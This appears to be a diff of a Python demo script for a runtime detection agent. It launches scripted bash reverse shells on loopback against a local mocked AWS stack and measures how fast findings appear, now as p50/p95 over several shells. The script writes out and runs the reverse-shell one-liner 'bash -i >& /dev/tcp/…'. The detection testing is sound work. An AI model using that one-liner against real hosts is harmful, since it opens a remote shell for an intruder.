@@ -8,13 +8,17 @@ deployed), tap FindingsBus with an SQS queue (as `make demo` does), start vigil-
 config written from the stack outputs (stream, region, endpoint), then run a scripted reverse
 shell entirely on loopback: a listener on 127.0.0.1 and
     bash -c 'bash -i >& /dev/tcp/127.0.0.1/<port> 0>&1'
-and wait for the finding on the bus. Prints the time from the shell's exec to the bus event.
+and wait for the finding on the bus. Prints the time from the shell's exec to the bus event, for
+``--shells`` shells one after the other (each from its own copy of bash, so each is a new finding
+published at once), then their p50 and p95.
 """
 
 from __future__ import annotations
 
 import argparse
+import math
 import os
+import shutil
 import socket
 import subprocess
 import sys
@@ -32,6 +36,10 @@ def main() -> int:
     ap = argparse.ArgumentParser()
     ap.add_argument("--port", type=int, default=0, help="moto port (default: the stack's default)")
     ap.add_argument("--timeout", type=float, default=30.0)
+    ap.add_argument(
+        "--shells", type=int, default=10, help="reverse shells, one after the other (p50/p95 over them)"
+    )
+    ap.add_argument("--gap", type=float, default=1.5, help="seconds between two shells")
     a = ap.parse_args()
     if os.geteuid() != 0:
         print("demo-live: needs root (the agent reads audit netlink)", file=sys.stderr)
@@ -68,19 +76,27 @@ signature_file = "{sig}"
 instance_id = "i-0dec0000000000001"
 account_id = "{stack.info.account_id}"
 region = "{stack.info.region}"
-state_dir = "{work / 'state'}"
+state_dir = "{work / "state"}"
 heartbeat_s = 10.0
 audit_key = "vigil-demo-live"
 [kinesis]
-stream = "{out['TelemetryStreamName']}"
+stream = "{out["TelemetryStreamName"]}"
 region = "{stack.info.region}"
 endpoint_url = "{stack.info.endpoint_url}"
 """)
-        env = dict(os.environ, PYTHONPATH=f"{ROOT / 'layers/core'}:{ROOT / 'agent'}",
-                   AWS_ACCESS_KEY_ID="testing", AWS_SECRET_ACCESS_KEY="testing")
+        env = dict(
+            os.environ,
+            PYTHONPATH=f"{ROOT / 'layers/core'}:{ROOT / 'agent'}",
+            AWS_ACCESS_KEY_ID="testing",
+            AWS_SECRET_ACCESS_KEY="testing",
+        )
         log = open(work / "agent.log", "wb")  # noqa: SIM115 (lives as long as the agent)
-        agent = subprocess.Popen([sys.executable, "-m", "vigil_agent.main", "--config", str(cfg)], env=env,
-                                 stdout=subprocess.DEVNULL, stderr=log)
+        agent = subprocess.Popen(
+            [sys.executable, "-m", "vigil_agent.main", "--config", str(cfg)],
+            env=env,
+            stdout=subprocess.DEVNULL,
+            stderr=log,
+        )
         shell = None
         srv = socket.socket()
         try:
@@ -92,36 +108,63 @@ endpoint_url = "{stack.info.endpoint_url}"
             srv.bind(("127.0.0.1", 0))
             srv.listen(1)
             port = srv.getsockname()[1]
-            console.print(f"attacker listener on 127.0.0.1:{port}; victim runs: "
-                          f"bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'")
-            t0 = time.monotonic()
-            shell = subprocess.Popen(["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"],
-                                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-            conn, _ = srv.accept()
-            conn.sendall(b"id\n")
-            found = None
-            while time.monotonic() - t0 < a.timeout and found is None:
-                for ev in drain(stack, tap_url):
-                    if ev.get("detail", {}).get("type") == WANT:
-                        found = ev
-                        break
-                time.sleep(0.2)
-            took = time.monotonic() - t0
-            conn.sendall(b"exit\n")
-            conn.close()
-            if found is None:
-                console.print(f"[red]no {WANT} finding on the bus after {a.timeout:.0f} s[/]")
-                console.print((work / "agent.log").read_text()[-3000:])
-                return 1
-            d = found["detail"]
-            proc = d.get("service", {}).get("runtimeDetails", {}).get("process", {})
-            console.rule("[bold green]finding on FindingsBus")
-            console.print(f"type      {d['type']}")
-            console.print(f"severity  {d['severity']}   title: {d.get('title', '')}")
-            console.print(f"instance  {d.get('resource', {}).get('instanceDetails', {}).get('instanceId', '')}")
-            console.print(f"process   {proc.get('name', '')} pid {proc.get('pid', '')} "
-                          f"{proc.get('executablePath', '')}")
-            console.print(f"[bold]shell exec -> finding on the bus: {took:.2f} s[/]")
+            took: list[float] = []
+            for n in range(a.shells):
+                # each shell from its own copy of bash: its own finding (one per executable), so
+                # every one is a new finding, published at once, not an update of the first
+                bash = work / f"shell-{n}" / "bash"
+                bash.parent.mkdir()
+                shutil.copy2("/bin/bash", bash)
+                console.print(
+                    f"attacker listener on 127.0.0.1:{port}; victim runs: "
+                    f"{bash} -c '{bash} -i >& /dev/tcp/127.0.0.1/{port} 0>&1'"
+                )
+                t0 = time.monotonic()
+                shell = subprocess.Popen(
+                    [str(bash), "-c", f"{bash} -i >& /dev/tcp/127.0.0.1/{port} 0>&1"],
+                    stdin=subprocess.DEVNULL,
+                    stdout=subprocess.DEVNULL,
+                    stderr=subprocess.DEVNULL,
+                )
+                conn, _ = srv.accept()
+                conn.sendall(b"id\n")
+                found = None
+                while time.monotonic() - t0 < a.timeout and found is None:
+                    for ev in drain(stack, tap_url):
+                        d = ev.get("detail", {})
+                        path = d.get("service", {}).get("runtimeDetails", {}).get("process", {})
+                        if d.get("type") == WANT and path.get("executablePath") == str(bash):
+                            found = ev
+                            break
+                    time.sleep(0.05)
+                took.append(time.monotonic() - t0)
+                conn.sendall(b"exit\n")
+                conn.close()
+                shell.wait(timeout=10)
+                if found is None:
+                    console.print(f"[red]no {WANT} finding on the bus after {a.timeout:.0f} s[/]")
+                    console.print((work / "agent.log").read_text()[-3000:])
+                    return 1
+                if n == 0:
+                    d = found["detail"]
+                    proc = d.get("service", {}).get("runtimeDetails", {}).get("process", {})
+                    console.rule("[bold green]finding on FindingsBus")
+                    console.print(f"type      {d['type']}")
+                    console.print(f"severity  {d['severity']}   title: {d.get('title', '')}")
+                    iid = d.get("resource", {}).get("instanceDetails", {}).get("instanceId", "")
+                    console.print(f"instance  {iid}")
+                    console.print(
+                        f"process   {proc.get('name', '')} pid {proc.get('pid', '')} {proc.get('executablePath', '')}"
+                    )
+                console.print(f"[bold]shell exec -> finding on the bus: {took[-1]:.2f} s[/]")
+                time.sleep(a.gap)
+            ranked = sorted(took)
+            p50 = ranked[(len(ranked) - 1) // 2]
+            p95 = ranked[min(len(ranked) - 1, math.ceil(0.95 * len(ranked)) - 1)]
+            console.print(
+                f"shell exec -> finding on the bus, {len(took)} shells: p50 {p50:.2f} s, p95 {p95:.2f} s, "
+                f"max {ranked[-1]:.2f} s (each: {', '.join(f'{t:.2f}' for t in took)})"
+            )
             return 0
         finally:
             if shell is not None and shell.poll() is None:
